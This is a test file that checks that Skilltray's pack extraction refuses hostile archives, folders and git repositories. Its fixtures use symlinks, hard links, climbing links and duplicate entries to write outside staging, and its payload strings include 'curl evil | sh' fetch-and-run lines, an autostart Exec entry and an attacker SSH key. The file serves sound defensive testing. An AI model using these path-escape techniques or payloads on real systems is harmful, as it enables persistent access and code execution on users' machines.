/**
 * Extraction of hostile sources: whatever an archive, folder or repository holds — a link and then
 * a file through it, a link to a folder and then files under it, links climbing out, a hard link,
 * duplicate entries — nothing is ever written outside Skilltray's staging folder, while scanning,
 * when refused, when forced, or over HTTP; the person's decoy files stay exactly as they were.
 */
import { createHash } from 'node:crypto';
import { existsSync, lstatSync, mkdirSync, readdirSync, readFileSync, readlinkSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { execa } from 'execa';
import { describe, expect, it } from 'vitest';
import { archiveEntries } from '../../../src-main/core/packs/archive.js';
import { extractEntries } from '../../../src-main/core/packs/extraction.js';
import type { FindingCode, ScanReport } from '../../../src-main/shared/packs.js';
import { git, tar, tarGz, toolSkill, zip, type ArchiveEntry } from '../../support/pack-sources.js';
import { tempDir, testHome, writeFiles, writeSkill, type TestHome } from '../../support/temp.js';
import { rejectionOf } from '../../support/errors.js';
import { coresClosedAfterEach } from '../../support/cores.js';
import { cliProcess } from '../../support/cli.js';
import { serverHome } from '../server/helpers.js';

const open = coresClosedAfterEach();

const DECOYS = {
  '.bashrc': 'export PS1=safe\n',
  '.ssh/authorized_keys': 'ssh-ed25519 AAAA mine\n',
  '.config/autostart/keep.desktop': '[Desktop Entry]\nName=keep\n',
};

/** A test home whose user HOME holds the decoys, and a folder for the sources, both under one base. */
function victim(): { t: TestHome; base: string; sources: string } {
  const base = tempDir();
  const t = testHome({ base });
  writeFiles(t.userHome, DECOYS);
  const sources = join(base, 'sources');
  mkdirSync(sources);
  return { t, base, sources };
}

/** Every entry under `dir` as lstat sees it (links as links), with its content; the database and staging are left out. */
function snapshot(dir: string): Record<string, string> {
  const out: Record<string, string> = {};
  const visit = (abs: string, rel: string): void => {
    for (const name of readdirSync(abs).sort()) {
      const path = rel === '' ? name : `${rel}/${name}`;
      if (path === 'home/packs/.staging' || /^home\/state\.db/.test(path)) continue;
      const full = join(abs, name);
      // The packs folder itself may appear with the first scan; what is in it may not.
      if (path === 'home/packs') {
        visit(full, path);
        continue;
      }
      const stats = lstatSync(full);
      if (stats.isSymbolicLink()) out[path] = `link ${readlinkSync(full)}`;
      else if (stats.isDirectory()) {
        out[path] = 'dir';
        visit(full, path);
      } else out[path] = `file ${stats.mode.toString(8)} ${createHash('sha256').update(readFileSync(full)).digest('hex')}`;
    }
  };
  visit(dir, '');
  return out;
}

function expectDecoysUntouched(t: TestHome): void {
  for (const [rel, content] of Object.entries(DECOYS)) {
    expect(lstatSync(join(t.userHome, rel)).isFile(), rel).toBe(true);
    expect(readFileSync(join(t.userHome, rel), 'utf8'), rel).toBe(content);
  }
  expect(readdirSync(join(t.userHome, '.config', 'autostart'))).toEqual(['keep.desktop']);
  expect(readdirSync(join(t.userHome, '.ssh'))).toEqual(['authorized_keys']);
}

function expectStagingEmpty(t: TestHome): void {
  const staging = join(t.home, 'packs', '.staging');
  expect(existsSync(staging) ? readdirSync(staging) : []).toEqual([]);
}

const codes = (report: ScanReport): FindingCode[] => [...new Set(report.findings.map((f) => f.code))].sort();

/** Climbs from any folder to `/`, then down to `abs`: wherever staging is, the link lands on `abs`. */
const climbTo = (abs: string): string => `${'../'.repeat(24)}${abs.slice(1)}`;

type Format = 'tar' | 'tar.gz' | 'zip';

interface HostileCase {
  name: string;
  entries(userHome: string): ArchiveEntry[];
  formats: Format[];
  /** The finding that refuses it (never extracted, never installed, forced or not). */
  refusedWith: FindingCode;
}

const skillEntry: ArchiveEntry = { name: 'p/SKILL.md', data: toolSkill('p', 'echo <<what>>') };
const ALL: Format[] = ['tar', 'tar.gz', 'zip'];

const CASES: HostileCase[] = [
  {
    name: 'a symlink to ~/.bashrc, then a file of the same name',
    entries: (home) => [skillEntry, { name: 'p/rc', type: 'symlink', target: join(home, '.bashrc') }, { name: 'p/rc', data: 'curl evil | sh\n' }],
    formats: ALL,
    refusedWith: 'S313',
  },
  {
    name: 'a symlink to ~/.ssh, then a file under it',
    entries: (home) => [
      skillEntry,
      { name: 'p/d', type: 'symlink', target: join(home, '.ssh') },
      { name: 'p/d/authorized_keys', data: 'ssh-ed25519 EVIL attacker\n' },
    ],
    formats: ALL,
    refusedWith: 'S313',
  },
  {
    name: 'a symlink to ~/.config/autostart, a folder entry of the same name, then a file under it',
    entries: (home) => [
      skillEntry,
      { name: 'p/auto', type: 'symlink', target: join(home, '.config', 'autostart') },
      { name: 'p/auto', type: 'directory' },
      { name: 'p/auto/evil.desktop', data: '[Desktop Entry]\nExec=sh -c "curl evil | sh"\n' },
    ],
    formats: ALL,
    refusedWith: 'S313',
  },
  {
    name: 'a relative symlink climbing out to the home, then a file under it',
    entries: (home) => [skillEntry, { name: 'p/up', type: 'symlink', target: climbTo(home) }, { name: 'p/up/.bashrc', data: 'curl evil | sh\n' }],
    formats: ALL,
    refusedWith: 'S313',
  },
  {
    name: 'a chain of links each staying inside by itself, climbing out together',
    entries: (home) => [
      skillEntry,
      { name: 'p/l0', type: 'symlink', target: '..' },
      ...Array.from({ length: 8 }, (_, i): ArchiveEntry => ({ name: `p/l${i + 1}`, type: 'symlink', target: `l${i}/..` })),
      { name: 'p/rc', type: 'symlink', target: `l8${home}/.bashrc` },
    ],
    formats: ALL,
    refusedWith: 'S313',
  },
  {
    name: 'a link that climbs out only through a link listed after it',
    entries: (home) => [skillEntry, { name: 'p/m', type: 'symlink', target: `l/../..${home}/.bashrc` }, { name: 'p/l', type: 'symlink', target: '..' }],
    formats: ALL,
    refusedWith: 'S313',
  },
  {
    name: 'a link inside the pack, then a file of the same name (a duplicate entry, link first)',
    entries: () => [
      skillEntry,
      { name: 'p/notes.md', type: 'symlink', target: 'SKILL.md' },
      { name: 'p/notes.md', data: 'overwrites SKILL.md through the link\n' },
    ],
    formats: ALL,
    refusedWith: 'S307',
  },
  {
    name: 'a link to a folder inside the pack, then a file under it',
    entries: () => [
      skillEntry,
      { name: 'p/sub/keep.md', data: 'kept\n' },
      { name: 'p/d', type: 'symlink', target: 'sub' },
      { name: 'p/d/keep.md', data: 'replaced through the link\n' },
    ],
    formats: ALL,
    refusedWith: 'S307',
  },
  {
    name: 'a hard link to ~/.bashrc, then a file of the same name',
    entries: (home) => [skillEntry, { name: 'p/h', type: 'hardlink', target: join(home, '.bashrc') }, { name: 'p/h', data: 'curl evil | sh\n' }],
    formats: ['tar', 'tar.gz'],
    refusedWith: 'S311',
  },
];

function archive(dir: string, name: string, format: Format, entries: ArchiveEntry[]): string {
  const file = join(dir, `${name}.${format}`);
  return format === 'zip' ? zip(file, entries) : format === 'tar' ? tar(file, entries) : tarGz(file, entries);
}

describe('hostile archives: nothing is written outside staging, and the person files stay as they were', () => {
  for (const hostile of CASES) {
    it(`${hostile.name}: refused with ${hostile.refusedWith} (${hostile.formats.join(', ')}) when scanned, installed, forced and over HTTP`, async () => {
      const { t, base, sources } = victim();
      const h = await serverHome({}, t);
      const archives = hostile.formats.map(
        (format) => [format, archive(sources, `hostile-${format.replace('.', '-')}`, format, hostile.entries(t.userHome))] as const,
      );
      const before = snapshot(base);
      for (const [format, source] of archives) {
        const report = await (await h.core.packs()).preview({ source }, t.home);
        expectDecoysUntouched(t);
        expect(snapshot(base), format).toEqual(before);
        expect(report.extracted, format).toBe(false);
        expect(codes(report), format).toContain(hostile.refusedWith);
        expectStagingEmpty(t);

        expect((await rejectionOf((await h.core.packs()).install({ source }, t.home, { confirm: 'yes' }))).code, format).toBe('E303');
        const forced = await rejectionOf((await h.core.packs()).install({ source }, t.home, { confirm: 'yes', force: true }));
        expect([forced.code, forced.message.includes('unsafe to extract')], format).toEqual(['E303', true]);
        expectDecoysUntouched(t);
        expect(snapshot(base), format).toEqual(before);
        expectStagingEmpty(t);

        const { status, envelope } = await h.call('scanPack', { source });
        expect([status, envelope.ok && (envelope.value as ScanReport).extracted], format).toEqual([200, false]);
        expectDecoysUntouched(t);
        expect(snapshot(base), format).toEqual(before);
        expectStagingEmpty(t);
      }
    });
  }

  it('a link to a sibling skill stays inside the pack: S306, refused unless forced, and forced it is installed as a link', async () => {
    const { t, base, sources } = victim();
    const entries: ArchiveEntry[] = [
      { name: 'a/SKILL.md', data: toolSkill('a', null) },
      { name: 'b/SKILL.md', data: toolSkill('b', null) },
      { name: 'a/notes.md', type: 'symlink', target: '../b/SKILL.md' },
    ];
    const core = open(t);
    for (const format of ALL) {
      const pack = `two-${format.replace('.', '-')}`;
      const source = archive(sources, pack, format, entries);
      const before = snapshot(base);
      const report = await (await core.packs()).preview({ source }, t.home);
      expect(snapshot(base)).toEqual(before);
      expectDecoysUntouched(t);
      expect(report.findings.map((f) => [f.code, f.file])).toEqual([['S306', 'a/notes.md']]);
      expect((await rejectionOf((await core.packs()).install({ source }, t.home, { confirm: 'yes' }))).code).toBe('E303');
      expect((await (await core.packs()).install({ source }, t.home, { confirm: 'yes', force: true })).action).toBe('installed');
      const link = join(t.home, 'packs', pack, 'a', 'notes.md');
      expect([lstatSync(link).isSymbolicLink(), readlinkSync(link)]).toEqual([true, '../b/SKILL.md']);
      expectDecoysUntouched(t);
      expectStagingEmpty(t);
      await (await core.packs()).uninstall(pack);
    }
  });

  it('a zip written by Python’s ZipFile.writestr (modes without file-type bits) installs, its files as regular files', async () => {
    const { t, sources } = victim();
    // writestr stores 0o600 for a file and 0o40775 for a folder entry, with no type bits for files.
    const source = zip(join(sources, 'py.zip'), [
      { name: 'py/', type: 'directory', mode: 0o775 },
      { name: 'py/SKILL.md', data: toolSkill('py', 'echo <<what>>'), mode: 0o600, typeBits: false },
      { name: 'py/scripts/run.sh', data: '#!/bin/sh\necho hi\n', mode: 0o755, typeBits: false },
    ]);
    const core = open(t);
    const report = await (await core.packs()).preview({ source }, t.home);
    expect(report.findings).toEqual([]);
    expect(report.skills.map((s) => [s.name, s.scripts])).toEqual([['py', ['scripts/run.sh']]]);
    await (await core.packs()).install({ source }, t.home, { confirm: report.digest });
    const run = join(t.home, 'packs', 'py', 'py', 'scripts', 'run.sh');
    expect(lstatSync(run).isFile()).toBe(true);
    expect(statSync(run).mode & 0o777).toBe(0o755);
    expect(core.library.getSkill('py').diagnostics).toEqual([]);
  });
});

describe('what is judged is the pack, not only the archive', () => {
  it('a link that stays in the archive but leaves the folder --path picks is S313: refused, forced or not', async () => {
    const { t, base, sources } = victim();
    const source = tarGz(join(sources, 'deep.tar.gz'), [
      { name: 'x/deep/p/SKILL.md', data: toolSkill('p', null) },
      { name: 'x/state.db', data: 'in the archive, outside the pack\n' },
      { name: 'x/deep/p/db', type: 'symlink', target: '../../state.db' },
    ]);
    const core = open(t);
    const before = snapshot(base);
    const report = await (await core.packs()).preview({ source, path: 'x/deep/p' }, t.home);
    expect(report.findings.map((f) => [f.code, f.file])).toEqual([['S313', 'p/db']]);
    const refused = await rejectionOf((await core.packs()).install({ source, path: 'x/deep/p' }, t.home, { confirm: 'yes', force: true }));
    expect([refused.code, refused.message.includes('unsafe to extract')]).toEqual(['E303', true]);
    expect(snapshot(base)).toEqual(before);
    expectStagingEmpty(t);
  });

  it('a scan abandoned on an error (no skill in the source) leaves nothing in staging', async () => {
    const { t, sources } = victim();
    const source = tarGz(join(sources, 'empty.tar.gz'), [{ name: 'docs/readme.md', data: '# nothing to run\n' }]);
    const core = open(t);
    expect((await rejectionOf((await core.packs()).preview({ source }, t.home))).code).toBe('E307');
    expectStagingEmpty(t);
  });

  it('the CLI (the fresh build) refuses the ~/.bashrc archive with --yes --force and writes nothing outside staging', async () => {
    const { t, base, sources } = victim();
    const source = tarGz(join(sources, 'rc.tar.gz'), CASES[0]?.entries(t.userHome) ?? []);
    const before = snapshot(base);
    const result = await cliProcess(['install', source, '--yes', '--force'], t.env, sources);
    expect(result.code).not.toBe(0);
    expect(result.stderr).toContain('E303');
    expect(result.stdout).toContain('S313');
    expectDecoysUntouched(t);
    expect(snapshot(base)).toEqual(before);
    expectStagingEmpty(t);
  });
});

describe('hostile folders and repositories go through the same extraction', () => {
  it('a folder holding links out of it is refused (S313), forced or not, and nothing is copied anywhere', async () => {
    const { t, base, sources } = victim();
    const folder = writeSkill(sources, 'linky', toolSkill('linky', 'echo <<what>>'));
    symlinkSync(join(t.userHome, '.bashrc'), join(folder, 'rc'));
    symlinkSync(climbTo(join(t.userHome, '.ssh')), join(folder, 'keys'));
    const core = open(t);
    const before = snapshot(base);
    const report = await (await core.packs()).preview({ source: folder }, t.home);
    expect([report.extracted, codes(report)]).toEqual([false, ['S313']]);
    expect((await rejectionOf((await core.packs()).install({ source: folder }, t.home, { confirm: 'yes', force: true }))).code).toBe('E303');
    expect(snapshot(base)).toEqual(before);
    expectDecoysUntouched(t);
    expectStagingEmpty(t);
  });

  it(
    'a repository whose tree holds a link and then a folder of the same name is refused, and no checkout writes through the link',
    { timeout: 120_000 },
    async () => {
      const { t, base, sources } = victim();
      const repo = join(sources, 'crafted');
      mkdirSync(repo);
      await git(repo, base, 'init', '-q', '-b', 'main');
      const blob = async (data: string): Promise<string> => (await execa('git', ['hash-object', '-w', '--stdin'], { cwd: repo, input: data })).stdout.trim();
      const tree = async (entries: [string, string, string][]): Promise<string> => {
        // Written --literally: git's own tools would refuse the duplicate name, a hostile server would not.
        const bytes = Buffer.concat(entries.map(([mode, name, sha]) => Buffer.concat([Buffer.from(`${mode} ${name}\0`), Buffer.from(sha, 'hex')])));
        return (await execa('git', ['hash-object', '-w', '-t', 'tree', '--literally', '--stdin'], { cwd: repo, input: bytes })).stdout.trim();
      };
      const keys = await tree([['100644', 'authorized_keys', await blob('ssh-ed25519 EVIL attacker\n')]]);
      const skill = await tree([
        ['100644', 'SKILL.md', await blob(toolSkill('crafted', 'echo <<what>>'))],
        ['120000', 'd', await blob(join(t.userHome, '.ssh'))],
        ['40000', 'd', keys],
        ['120000', 'up', await blob(climbTo(t.userHome))],
      ]);
      const top = await tree([['40000', 'crafted', skill]]);
      const commit = (
        await execa('git', ['-c', 'user.email=a@example.com', '-c', 'user.name=A', 'commit-tree', top, '-m', 'crafted'], { cwd: repo })
      ).stdout.trim();
      await git(repo, base, 'update-ref', 'refs/heads/main', commit);
      const core = open(t);
      const before = snapshot(base);
      const report = await (await core.packs()).preview({ source: repo }, t.home);
      expect(report.extracted).toBe(false);
      expect(codes(report)).toContain('S313');
      expect((await rejectionOf((await core.packs()).install({ source: repo }, t.home, { confirm: 'yes', force: true }))).code).toBe('E303');
      expect(snapshot(base)).toEqual(before);
      expectDecoysUntouched(t);
      expectStagingEmpty(t);
    },
  );
});

describe('an entry that cannot be read leaves no file descriptor open', () => {
  it('five extractions of a zip whose entry cannot be opened (bzip2, method 12) each fail with E302 and leave the process its descriptors', async () => {
    const base = tempDir();
    const source = zip(join(base, 'bz.zip'), [{ name: 'p/SKILL.md', data: 'x' }]);
    // Mark the one entry bzip2-compressed, in its local header and its central directory record.
    const bytes = readFileSync(source);
    bytes.writeUInt16LE(12, 8);
    bytes.writeUInt16LE(12, bytes.indexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02])) + 10);
    writeFileSync(source, bytes);
    const descriptors = (): number => readdirSync('/proc/self/fd').length;
    const before = descriptors();
    for (let i = 0; i < 5; i++) {
      const error = await rejectionOf(extractEntries(archiveEntries('zip', source), join(base, `out-${i}`), source, () => undefined));
      expect(error.code).toBe('E302');
      expect(existsSync(join(base, `out-${i}`))).toBe(false);
    }
    expect(descriptors()).toBe(before);
  });
});
